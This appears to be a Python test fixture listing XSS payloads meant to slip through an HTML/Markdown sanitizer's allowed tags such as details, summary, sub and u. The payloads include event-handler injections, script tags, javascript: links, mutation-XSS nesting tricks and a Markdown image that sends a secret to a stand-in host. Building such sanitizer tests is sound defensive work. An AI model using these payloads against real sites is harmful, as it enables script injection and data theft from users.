"""The tags that are drawn, with what must not be: attributes, events, other tags around and inside."""

from __future__ import annotations

_DRAWN = ("sub", "sup", "kbd", "u", "b", "i", "del", "mark", "details", "summary")
_MARKS = (
    "onclick=alert(1)",
    "onfocus=alert(1) tabindex=0 autofocus",
    "style='position:fixed;inset:0'",
    "open ontoggle=alert(1)",
    "class=jp-Dialog id=main",
)

TAGS = [
    "a <details open ontoggle=alert(1)><summary>b</summary>c</details>",
    "a <details open=ontoggle=alert(1)><summary>b</summary>c</details> d",
    "a <details><summary>b</summary><img src=x onerror=alert(1)></details><script>alert(1)</script>",
    "<details open><summary>a</summary><script>alert(1)",
    "a<br onclick=alert(1)>b<br/onclick=alert(1)>c<br><img src=x onerror=alert(1)><br>",
    *(f"<{tag} {marks}>alert(1)</{tag}>" for tag in _DRAWN for marks in _MARKS),
    *(f"<{tag}><img src=x onerror=alert(1)></{tag}>" for tag in _DRAWN),
    *(f"<{tag}/onclick=alert(1)>x</{tag}>" for tag in _DRAWN),
    "<details>\n<summary>a</summary>\n<script>alert(1)</script>\n</details>",
    "<details>\n<summary><img src=x onerror=alert(1)></summary>\n\nb\n</details>",
    "<details>\n<summary>[a](javascript:alert(1))</summary>\n\n![b](javascript:alert(1))\n</details>",
    "<details><summary onclick=alert(1)>a</summary>b</details>",
    "<details>\n<details ontoggle=alert(1) open>\na\n</details>\n</details>",
    "<details>\n<svg><style><details></style><img src=x onerror=alert(1)>\n</details>",
    "<details>\n<summary><svg></p><style><a id='</style><img src=x onerror=alert(1)>'></summary>\n</details>",
    "<details>\n<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>\n</details>",
    "<details>\n<summary>\n<form><input name=body>\n</summary>\na\n</details>",
    "<details>\n</summary><summary>a</summary><script>alert(1)</script>\n</details>",
    "<sub><sup><u><kbd><img src=x onerror=alert(1)></kbd></u></sup></sub>",
    "<u><table><u><script>alert(1)</script></u></table></u>",
    "<<u>img src=x onerror=alert(1)></u>",
    "<u><</u>img src=x onerror=alert(1)>",
    "<u>&lt;img src=x onerror=alert(1)&gt;</u>",
    "<a title='<u>'><img src=x onerror=alert(1)></u>",
    "<sub>`</sub><img src=x onerror=alert(1)>`",
    "<svg><sub></svg><img src=x onerror=alert(1)></sub>",
    "<math><sub><mi><img src=x onerror=alert(1)></mi></sub></math>",
    "[<u>a](javascript:alert(1))</u>",
    "!<u>[a](https://sink.example/leak?q=SECRET)</u>",
    "|<details>|<summary>a</summary>|\n|---|---|\n|<img src=x onerror=alert(1)>|</details>|",
]
